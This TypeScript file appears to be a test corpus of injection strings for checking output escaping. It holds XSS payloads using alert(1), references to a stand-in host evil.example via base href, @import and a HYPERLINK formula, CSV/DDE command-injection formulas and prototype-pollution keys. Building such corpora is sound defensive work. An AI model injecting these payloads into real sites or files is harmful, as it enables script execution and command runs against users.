// Texts that would run a script, load something or break out of where they are put, if a page or an export took them
// for markup. Each says `alert(1)` where it would run.

export const markup: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '"><svg/onload=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '</title><script>alert(1)</script>',
  '</textarea><svg onload=alert(1)>',
  '</script><script>alert(1)</script>',
  '</style><svg onload=alert(1)>',
  '<iframe srcdoc="<svg onload=alert(1)>">',
  '<a href=javascript:alert(1)>x</a>',
  '<details open ontoggle=alert(1)>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<math href=javascript:alert(1)>x',
  '<form action=javascript:alert(1)>',
  '<!--><svg onload=alert(1)>-->',
  ']]><svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  "<style>@import'//evil.example'</style>",
  '<link rel=import href=//evil.example>',
  '<x contenteditable onblur=alert(1)>',
  '-->\'"></a><svg onload=alert(1)>',
  '<template><svg onload=alert(1)>',
  '<xmp><svg onload=alert(1)>',
  '<noscript><p title="</noscript><svg onload=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<button popovertarget=x onbeforetoggle=alert(1)>x</button>',
];

const other: readonly string[] = [
  'javascript:alert(1)',
  ' javascript:alert(1)//https://',
  'data:text/html,<script>alert(1)</script>',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '` onclick=`alert(1)',
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)} #{alert(1)} <%= alert(1) %>',
  '`-alert(1)-`',
  "');alert(1);//",
  '[x](javascript:alert(1))',
  '![x](x "onerror=alert(1)")',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)',
  '# heading',
  '| a | b |',
  '```',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;svg onload=alert(1)&#62;',
  '\\u003csvg onload=alert(1)\\u003e',
  '%3Csvg%20onload=alert(1)%3E',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<\u017fcript>alert(1)</\u017fcript>',
  '"}</script><svg onload=alert(1)>',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|x',
  '+1-1+cmd|x',
  '-2+3+cmd|x',
  '=HYPERLINK("http://evil.example","x")',
  '__proto__',
  'constructor',
  'toString',
];

export const corpus: readonly string[] = [...markup, ...other];

/** The next that fits a field of this many characters, beginning anywhere in the corpus. */
export function fitting(at: number, characters: number): string {
  for (let tried = 0; tried < corpus.length; tried++) {
    const text = corpus[(at + tried) % corpus.length]!;
    if (text.length <= characters) return text;
  }
  throw new Error(`nothing fits ${characters} characters`);
}
